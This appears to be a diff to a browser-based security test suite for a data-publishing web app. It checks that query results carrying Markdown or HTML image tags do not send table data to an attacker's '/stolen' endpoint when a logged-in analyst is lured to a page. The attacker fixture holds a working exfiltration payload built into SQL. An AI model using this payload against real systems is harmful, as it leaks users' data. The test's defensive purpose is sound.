@@ -410,6 +410,7 @@ class Attacker:
 
     def __init__(self) -> None:
         self.page = b""
+        self.target = ""
         self.received: list[str] = []
         attacker = self
 
@@ -443,7 +444,7 @@ class Attacker:
             f"select '![x]({self.url}/stolen?d=' || group_concat(title) || ')' as x_markdown,"
             f" '<img src={self.url}/stolen-html>' as y_html from evidence"
         )
-        target = library_url + "/evidence?" + urllib.parse.urlencode({"sql": sql})
+        target = self.target = library_url + "/evidence?" + urllib.parse.urlencode({"sql": sql})
         data = library_url + "/evidence.json?" + urllib.parse.urlencode({"sql": sql})
         quoted = json.dumps(target)
         self.page = f"""<!DOCTYPE html><title>Lunch menu</title>
@@ -512,7 +513,9 @@ def test_attack_markdown_exfiltration(browser, server, local_server, attacker):
         shot(page, "08-exfiltration-refused.png")
     finally:
         page.context.close()
-    # With accounts: an analyst, logged in, visits the page elsewhere.
+    # With accounts: an analyst, logged in, visits the page elsewhere; and then, fooled,
+    # pastes its link into the address bar, which no other site started: the page shows
+    # the Markdown as the text it is.
     page = new_page(browser)
     try:
         page.goto(server + "/-/login")
@@ -522,6 +525,12 @@ def test_attack_markdown_exfiltration(browser, server, local_server, attacker):
         page.goto(attacker.url + "/")
         page.wait_for_url(re.compile(re.escape(server)), timeout=10_000)
         page.wait_for_load_state("networkidle")
+        page.console_refusals.clear()  # the trap's frame, refused by frame-ancestors
+        page.goto(attacker.target)
+        expect(page.locator("td.col-x_markdown")).to_contain_text(f"![x]({attacker.url}/stolen")
+        page.wait_for_load_state("networkidle")
+        assert page.locator("img").count() == 0
+        assert refused(page) == []
     finally:
         page.context.close()
     assert attacker.received == []
